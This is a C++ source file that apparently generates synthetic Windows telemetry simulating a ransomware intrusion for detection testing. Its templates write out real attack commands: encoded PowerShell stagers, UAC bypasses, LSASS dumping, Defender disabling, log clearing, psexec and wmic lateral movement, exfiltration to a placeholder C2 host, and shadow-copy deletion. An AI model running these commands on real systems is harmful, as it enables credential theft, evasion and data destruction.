// SPDX-License-Identifier: Apache-2.0
#include "stages/produce/synthetic/attack/moves.h"

#include "stages/produce/synthetic/log/security.h"
#include "stages/produce/synthetic/log/sysmon.h"
#include "stages/produce/synthetic/log/windows.h"

namespace tocsin::synthetic::moves {

Process stage(Attack& attack, const Process& parent) {
  attack.let("@c2", "{c2}");
  attack.step("execution", "T1059.001");
  const bool quiet = attack.chance(30);
  Process shell = attack.run(
      parent, "powershell",
      quiet
          ? Texts{R"(powershell -c "$x='{h16}';{ps_stage_quiet}")",
                  R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -sta -file "{home}\AppData\Local\Temp\{h8}.ps1")"}
          : Texts{
                R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc {enc:ps_stage})",
                R"(powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command "{ps_stage}")",
                R"(powershell -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand {enc:ps_stage})",
                R"(powershell.exe -w 1 -ep bypass -c "{ps_stage}")"});
  attack.does(shell, {quiet ? "script {ps_stage_quiet}" : "script {ps_stage}"});
  attack.step("command-and-control", "T1071.001");
  attack.does(shell, {"dns {@c2}", "net {@c2}:443"});
  return shell;
}

Process implant(Attack& attack, const Process& shell) {
  attack.let("payload", R"({dropdir}\{implant}.exe)");
  attack.step("command-and-control", "T1105");
  attack.does(shell, {"file {payload}"});
  attack.pause(3, 25);
  attack.step("execution", "T1204.002");
  return attack.run_tool(shell, "{payload}", "-",
                         {R"("{payload}")", R"({payload} -k {h6})", R"("{payload}" /start)"},
                         {"loadu {home}\\AppData\\Local\\Temp\\{h8}.dll"});
}

void beacon(Attack& attack, const Process& implant, int times) {
  attack.let("@c2", "{c2}");
  attack.step("command-and-control", "T1071.001");
  for (int i = 0; i < times; ++i) {
    attack.pause(20, 45);
    attack.does(implant, {"dns {@c2}", "net {@c2}:443"});
  }
}

void persist(Attack& attack, const Process& shell) {
  if (attack.scene.find("payload") == nullptr) attack.let("payload", R"({dropdir}\{implant}.exe)");
  attack.pause(20, 120);
  const std::uint32_t way = attack.world.rng.below(4);
  if (way == 0) {
    attack.step("persistence", "T1547.001");
    attack.run(
        shell, "reg",
        {R"(reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v "{@keyname}" /t REG_SZ /d "{payload}" /f)",
         R"(reg.exe  ADD "HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v {@keyname} /d "cmd /c start {payload}" /f)"},
        {R"(set HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\{@keyname} = {payload})"});
  } else if (way == 1) {
    attack.step("persistence", "T1547.001");
    attack.does(
        shell,
        {R"(set HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\{keyname} = "{payload}" -s)"});
  } else if (way == 2) {
    attack.step("persistence", "T1053.005");
    attack.let("task", "{taskname}");
    attack.run(
        shell, "schtasks",
        {R"(schtasks /create /tn "{task}" /tr "{payload}" /sc onlogon /rl highest /f)",
         R"~(schtasks.exe /Create /SC MINUTE /MO 15 /TN "{task}" /TR "powershell -w hidden -c IEX((gp HKCU:\Software\{h6}).{h4})" /F)~"},
        {"file C:\\Windows\\System32\\Tasks\\{task}"});
    security::task_created(attack.world, attack.at, *shell.host, shell.logon,
                           "\\" + attack.text("{task}"), attack.text("{payload}"), "-s");
    windows::task_registered(attack.world, attack.at, *shell.host, "\\" + attack.text("{task}"),
                             shell.logon.account->display);
  } else {
    attack.step("persistence", "T1547.001");
    attack.does(
        shell,
        {R"(file {home}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\{keyname}.lnk)"});
  }
}

void discover(Attack& attack, const Process& shell) {
  attack.pause(30, 150);
  struct Look {
    std::string_view technique;
    std::string_view program;
    std::string_view command;
  };
  static constexpr Look kLooks[] = {
      {"T1033", "whoami", "whoami /all"},
      {"T1033", "whoami", R"("C:\Windows\system32\whoami.exe" /priv)"},
      {"T1082", "systeminfo", "systeminfo"},
      {"T1016", "ipconfig", "ipconfig /all"},
      {"T1069.002", "net", R"(net group "Domain Admins" /domain)"},
      {"T1087.002", "net", "net user /domain"},
      {"T1018", "net", "net view /domain"},
      {"T1018", "nltest", "nltest /dclist:"},
      {"T1482", "nltest", "nltest /domain_trusts /all_trusts"},
      {"T1049", "netstat", "netstat -ano"},
      {"T1057", "tasklist", "tasklist /svc"},
      {"T1069.001", "net", "net localgroup administrators"},
      {"T1016", "arp", "arp -a"},
      {"T1518.001", "wmic",
       R"(wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname)"},
      {"T1018", "dsquery", "dsquery computer -limit 0"},
      {"T1012", "reg", R"(reg query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run")"},
      {"T1135", "net", R"(net view \\{fs} /all)"},
      {"T1033", "query", "quser"},
      {"T1016", "route", "route print"}};
  const int count = 4 + static_cast<int>(attack.world.rng.below(5));
  const std::size_t offset = attack.world.rng.below(std::size(kLooks));
  for (int i = 0; i < count; ++i) {
    const Look& look = kLooks[(offset + static_cast<std::size_t>(i) * 7) % std::size(kLooks)];
    attack.step("discovery", look.technique);
    const Process process = attack.run(shell, look.program, {look.command});
    if (look.program == "net" && look.command.find("user") != std::string_view::npos) {
      std::string again(look.command);
      again.replace(0, 3, R"(C:\Windows\system32\net1)");
      attack.run(process, "net1", {again});
    }
    attack.pause(1, 12);
  }
}

void bypass_uac(Attack& attack, const Process& shell) {
  attack.pause(20, 90);
  attack.step("privilege-escalation", "T1548.002");
  const std::uint32_t way = attack.world.rng.below(3);
  if (way == 0) {
    attack.does(
        shell, {R"(set HKU\{sid}_Classes\ms-settings\shell\open\command\DelegateExecute = (Empty))",
                R"(set HKU\{sid}_Classes\ms-settings\shell\open\command\(Default) = {payload})"});
    attack.run(shell, attack.chance(50) ? "fodhelper" : "computerdefaults",
               {R"("C:\Windows\System32\fodhelper.exe")", "fodhelper.exe"});
  } else if (way == 1) {
    attack.does(shell,
                {R"(set HKU\{sid}_Classes\mscfile\shell\open\command\(Default) = {payload})"});
    attack.run(shell, "eventvwr", {"eventvwr.exe", R"("C:\Windows\System32\eventvwr.exe")"});
  } else {
    attack.does(shell,
                {R"(set HKU\{sid}_Classes\Folder\shell\open\command\(Default) = {payload})",
                 R"(set HKU\{sid}_Classes\Folder\shell\open\command\DelegateExecute = (Empty))"});
    attack.run(shell, "sdclt", {"sdclt.exe"});
  }
}

void dump_lsass(Attack& attack, const Process& shell) {
  attack.pause(30, 200);
  attack.step("credential-access", "T1003.001");
  attack.let("dump", R"({dropdir}\{h8}.{dumpext})");
  const Process& lsass = attack.at_host(*shell.host, "lsass");
  const auto touch = [&](const Process& actor, std::uint64_t mask, std::string_view module) {
    sysmon::process_access(attack.world, attack.at, actor, lsass, mask,
                           call_trace(attack.world.rng, module));
    attack.pause(1, 3);
  };
  switch (attack.world.rng.below(5)) {
    case 0: {
      const Process tool = attack.run_tool(
          shell, R"({dropdir}\{miminame}.exe)", attack.chance(60) ? "mimikatz.exe" : "-",
          {R"({miminame}.exe "privilege::debug" "sekurlsa::logonpasswords" exit)",
           R"("{miminame}.exe" -c {h6} --out {dump})"});
      touch(tool, attack.chance(60) ? 0x1010 : 0x1410, "UNKNOWN(00000000770C8000)");
      for (const Kind kind : {Kind::k4656, Kind::k4663})
        security::object_access(attack.world, attack.at, tool, kind, "Process",
                                R"(\Device\HarddiskVolume3\Windows\System32\lsass.exe)", 0x1010);
      break;
    }
    case 1: {
      const Process tool =
          attack.run(shell, "rundll32",
                     {R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump )"
                      "{lsasspid} {dump} full",
                      R"(rundll32 C:\windows\system32\comsvcs.dll, #24 {lsasspid} {dump} full)",
                      R"(rundll32.exe C:\Windows\System32\com)"
                      "svcs.dll,#+0000^24 {lsasspid} {dump} full"},
                     {R"(load C:\Windows\System32\comsvcs.dll)"});
      touch(tool, 0x1fffff, R"(C:\Windows\System32\comsvcs.dll)");
      attack.does(tool, {"file {dump}"});
      break;
    }
    case 2: {
      const Process tool = attack.run_tool(shell, R"({dropdir}\{dumpname}.exe)",
                                           attack.chance(70) ? "procdump" : "-",
                                           {"{dumpname}.exe -accepteula -ma lsass.exe {dump}",
                                            "{dumpname}.exe -r -ma {lsasspid} {dump}"});
      touch(tool, 0x1fffff, R"(C:\Windows\SYSTEM32\dbgcore.DLL)");
      attack.does(tool, {"file {dump}"});
      break;
    }
    case 3: {
      touch(shell, 0x1438, "UNKNOWN(000001F2A1B30000)");
      attack.does(shell, {"script function {h6} {nl}$p = (Get-Process lsass); $b = "
                          "[Reflection.Assembly]::Load($x).GetType('Pipe.Out'); "
                          "$b::MiniDumpWriteDump($p.Handle)"});
      break;
    }
    default: {
      const Process tool =
          attack.run(shell, "taskmgr", {R"("C:\Windows\system32\taskmgr.exe" /4)"});
      touch(tool, 0x1fffff, R"(C:\Windows\SYSTEM32\dbgcore.DLL)");
      attack.does(tool, {R"(file {home}\AppData\Local\Temp\lsass.DMP)"});
    }
  }
}

void impair_defender(Attack& attack, const Process& shell) {
  attack.pause(20, 120);
  attack.step("defense-impairment", "T1685");
  switch (attack.world.rng.below(4)) {
    case 0:
      attack.run(shell, "powershell",
                 {"powershell -c Set-MpPreference -DisableRealtimeMonitoring $true",
                  R"(powershell.exe -NonI -Command "Add-MpPreference -ExclusionPath '{dropdir}'")",
                  "powershell -ep bypass -c \"Set-MpPreference -DisableIOAVProtection 1 "
                  "-DisableScriptScanning 1\""},
                 {"script Set-MpPreference -DisableRealtimeMonitoring $true"});
      windows::realtime_off(attack.world, attack.at, *shell.host);
      break;
    case 1:
      attack.run(
          shell, "reg",
          {R"(reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f)"},
          {R"(set HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware = DWORD (0x00000001))"});
      break;
    case 2:
      attack.does(
          shell,
          {R"(set HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\{dropdir} = DWORD (0x00000000))"});
      windows::defender_config(
          attack.world, attack.at, *shell.host, "",
          attack.text(
              R"(HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\{dropdir} = 0x0)"));
      break;
    default:
      attack.run(shell, "sc", {"sc.exe stop WinDefend", "sc config WinDefend start= disabled"});
      attack.run(shell, "net", {"net stop WinDefend /y", "net stop Sense"});
      windows::service_start_type(attack.world, attack.at, *shell.host,
                                  "Microsoft Defender Antivirus Service", "auto start", "disabled",
                                  "WinDefend");
  }
}

void clear_logs(Attack& attack, const Process& shell) {
  attack.pause(20, 100);
  attack.step("defense-impairment", "T1685.005");
  if (attack.chance(70)) {
    attack.run(shell, "wevtutil", {"wevtutil cl Security", "wevtutil.exe clear-log Security"});
    security::log_cleared(attack.world, attack.at, *shell.host, shell.logon);
    attack.run(shell, "wevtutil", {"wevtutil cl System"});
    windows::log_cleared(attack.world, attack.at, *shell.host, *shell.logon.account, "System");
  } else {
    attack.run(shell, "powershell",
               {"powershell Clear-EventLog -LogName Application,System,Security",
                "powershell -c \"Get-WinEvent -ListLog * | % { "
                "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_."
                "LogName) }\""});
    security::log_cleared(attack.world, attack.at, *shell.host, shell.logon);
  }
}

void inject(Attack& attack, const Process& implant) {
  attack.pause(10, 60);
  attack.step("stealth", "T1055");
  const Process target =
      attack.run(implant, attack.chance(50) ? "rundll32" : "dllhost",
                 {R"(C:\Windows\System32\rundll32.exe)", R"(C:\Windows\System32\dllhost.exe)"});
  sysmon::process_access(attack.world, attack.at, implant, target, 0x1fffff,
                         call_trace(attack.world.rng, "UNKNOWN(0000021D4A7B0000)"));
  sysmon::remote_thread(attack.world, attack.at + 80 * kMillisecond, implant, target, "-", "-");
  attack.does(target, {"pipe \\{c2pipe}", "pipeto \\{c2pipe}"});
  if (attack.chance(50)) sysmon::tampering(attack.world, attack.at, target, "Image is replaced");
}

Process spread(Attack& attack, const Process& shell, const Account& who, Host& target) {
  attack.pause(40, 240);
  attack.scene.peer = &target;
  attack.step("lateral-movement", "T1021.002");
  World& world = attack.world;
  const std::uint32_t way = world.rng.below(4);
  const Logon logon = network_logon(world, attack.at, who, *shell.host, target,
                                    attack.chance(60) ? "NTLM" : "Kerberos");
  if (way == 0) {
    attack.let("svc", attack.chance(50) ? "PSEXESVC" : "{h8}");
    attack.run_tool(
        shell, R"({dropdir}\{psexecname}.exe)", attack.chance(70) ? "psexec.c" : "-",
        {R"({psexecname}.exe \\{peer} -accepteula -s -d cmd.exe /c {payload2})",
         R"({psexecname}.exe \\{peerip} -u {domain}\{anyadmin} -p {password} -s cmd.exe)"},
        {"net {peer}:445"});
    security::explicit_credentials(world, attack.at, shell, who, target.name);
    security::share_opened(world, attack.at, target, logon, *shell.host, "ADMIN$");
    security::share_file(world, attack.at, target, logon, *shell.host, "ADMIN$",
                         attack.text("{svc}.exe"), 0x17019f);
    attack.step("execution", "T1569.002");
    windows::service_installed(world, attack.at, target, who, attack.text("{svc}"),
                               attack.text(R"(%SystemRoot%\{svc}.exe)"));
    security::service_installed(world, attack.at, target, logon, attack.text("{svc}"),
                                attack.text(R"(%SystemRoot%\{svc}.exe)"));
    const Process service = attack.run_as(attack.at_host(target, "services"), attack.system(),
                                          "System", "psexesvc", {R"(C:\Windows\{svc}.exe)"},
                                          {"pipe \\{svc}", "pipe \\{svc}-{host}-{n4}-stdin"});
    return attack.run(service, "cmd",
                      {R"("cmd.exe" /c {payload2})", R"("C:\Windows\system32\cmd.exe")"});
  }
  if (way == 1) {
    attack.step("lateral-movement", "T1047");
    attack.run(
        shell, "wmic",
        {R"(wmic /node:{peerip} process call create "cmd.exe /c {payload2}")",
         R"(wmic /node:"{peer}" /user:{domain}\{anyadmin} process call create "powershell -enc {enc:ps_stage}")"},
        {"net {peer}:135"});
    return attack.run_as(attack.at_host(target, "wmiprvse"), logon, "High", "cmd",
                         {R"(cmd.exe /Q /c {payload2} 1> \\127.0.0.1\ADMIN$\__{n5}{n5}.{n4} 2>&1)",
                          "cmd.exe /c {payload2}"});
  }
  if (way == 2) {
    attack.step("lateral-movement", "T1021.006");
    attack.run(shell, "powershell",
               {R"(powershell -c "Invoke-Command -ComputerName {peer} -ScriptBlock {{payload2}}")",
                R"(powershell Enter-PSSession -ComputerName {peer})"},
               {"net {peer}:5985",
                "script Invoke-Command -ComputerName {peer} -ScriptBlock { iex $using:{h4} }"});
    const Process host =
        attack.run_as(attack.at_host(target, "svchost.dcom"), logon, "High", "wsmprovhost",
                      {R"(C:\Windows\system32\wsmprovhost.exe -Embedding)"});
    return attack.run(host, "cmd",
                      {R"("C:\Windows\system32\cmd.exe" /c {payload2})",
                       R"("C:\Windows\system32\cmd.exe" /c whoami)"});
  }
  attack.let("svc", "{svcname}");
  security::share_file(world, attack.at, target, logon, *shell.host, "IPC$", "svcctl", 0x3);
  attack.does(shell, {"net {peer}:445", "pipeto \\svcctl"});
  attack.step("execution", "T1569.002");
  const std::string command = attack.text(
      attack.chance(50)
          ? R"(%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand {enc:ps_stage})"
          : R"(C:\Windows\{svc}.exe -svc)");
  windows::service_installed(world, attack.at, target, who, attack.text("{svc}"), command);
  security::service_installed(world, attack.at, target, logon, attack.text("{svc}"), command);
  return attack.run_as(
      attack.at_host(target, "services"), attack.system(), "System", "cmd",
      {R"(C:\Windows\system32\cmd.exe /b /c start /b /min powershell -nop -w hidden -encodedcommand {enc:ps_stage})",
       R"(cmd.exe /c echo {h12} > \\.\pipe\{h6})"});
}

void collect(Attack& attack, const Process& shell) {
  attack.pause(40, 200);
  attack.let("loot", R"({dropdir}\{archive})");
  attack.step("collection", "T1560.001");
  switch (attack.world.rng.below(3)) {
    case 0:
      attack.run(
          shell, "7z",
          {R"("C:\Program Files\7-Zip\7z.exe" a -t7z -mx1 -p{h8} -mhe=on {loot}.7z D:\Shares\{share})",
           R"(7z.exe a -p{password} {loot}.7z {home}\Documents -r)"},
          {"file {loot}.7z"});
      break;
    case 1:
      attack.run_tool(
          shell, R"({dropdir}\{rarname}.exe)", attack.chance(60) ? "rar.exe" : "-",
          {R"({rarname}.exe a -r -hp{h8} -m3 -v500m {loot}.rar \\{fs}\{share}\{client})",
           R"({rarname}.exe a -hp{password} {loot}.dat {home}\Documents)"},
          {"file {loot}.rar"});
      break;
    default:
      attack.run(
          shell, "powershell",
          {R"(powershell Compress-Archive -Path {home}\Documents\* -DestinationPath {loot}.zip)",
           R"(powershell -c "Get-ChildItem \\{fs}\{share} -Recurse -Include *.docx,*.xlsx,*.pdf | Compress-Archive -DestinationPath {loot}.zip")"},
          {"script Compress-Archive -Path $p -DestinationPath {loot}.zip", "file {loot}.zip"});
  }
}

void exfiltrate(Attack& attack, const Process& shell) {
  attack.pause(30, 200);
  attack.let("loot", R"({dropdir}\{archive})");
  switch (attack.world.rng.below(3)) {
    case 0:
      attack.step("exfiltration", "T1567.002");
      attack.run_tool(
          shell, R"({dropdir}\{rclonename}.exe)", attack.chance(60) ? "rclone.exe" : "-",
          {R"({rclonename}.exe copy {loot}.7z mega:{h6} --no-check-certificate --transfers 12 -q --ignore-existing)",
           R"({rclonename}.exe sync D:\Shares\{share} r{n}:{h6} --config {dropdir}\{h4}.conf --multi-thread-streams {n})"},
          {"web g.api.mega.co.nz", "net g.api.mega.co.nz:443"});
      break;
    case 1:
      attack.step("exfiltration", "T1048.003");
      attack.run(shell, "curl",
                 {R"(curl.exe -k -F "file=@{loot}.7z" https://{@c2}/u/{h8})",
                  R"(curl -T {loot}.rar ftp://{@c2}/in/ --user {h6}:{h8})"},
                 {"dns {@c2}", "net {@c2}:21"});
      break;
    default:
      attack.step("exfiltration", "T1041");
      attack.run(
          shell, "powershell",
          {R"~(powershell -c "(New-Object Net.WebClient).UploadFile('https://{@c2}/{h6}','{loot}.zip')")~",
           R"(powershell -w hidden -c "Invoke-RestMethod -Uri https://{@c2}/{h4} -Method Post -InFile {loot}.zip")"},
          {"script (New-Object Net.WebClient).UploadFile('https://{@c2}/{h6}','{loot}.zip')",
           "dns {@c2}", "net {@c2}:443"});
  }
}

void destroy_recovery(Attack& attack, const Process& shell) {
  attack.pause(20, 100);
  attack.step("impact", "T1490");
  if (attack.chance(75))
    attack.run(shell, "vssadmin",
               {"vssadmin delete shadows /all /quiet", "vssadmin.exe Delete Shadows /All /Quiet",
                "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB"});
  else
    attack.run(
        shell, "powershell",
        {"powershell -c \"Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete(); }\"",
         "powershell -ep bypass \"gwmi Win32_ShadowCopy|%{$_.Delete()}\""});
  attack.run(shell, "bcdedit",
             {"bcdedit /set {default} recoveryenabled no",
              "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"});
  if (attack.chance(60))
    attack.run(
        shell, "wbadmin",
        {"wbadmin delete catalog -quiet", "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0"});
  attack.step("impact", "T1489");
  attack.run(shell, "net", {"net stop {stopsvc} /y"});
  attack.run(shell, "taskkill",
             {"taskkill /f /im {stopproc}.exe", "taskkill /IM {stopproc}.exe /F /T"});
}

void encrypt(Attack& attack, const Process& implant, int files) {
  attack.step("impact", "T1486");
  attack.let("ext", "{ransomext}");
  for (int i = 0; i < files; ++i)
    attack.does(implant, {R"(file {home}\Documents\{doc}.{officeext}.{ext})"});
  attack.does(
      implant,
      {R"(file {home}\Desktop\{ransomnote})",
       R"(set HKU\{sid}\Control Panel\Desktop\Wallpaper = {home}\AppData\Local\Temp\{h8}.bmp)"});
}

}  // namespace tocsin::synthetic::moves
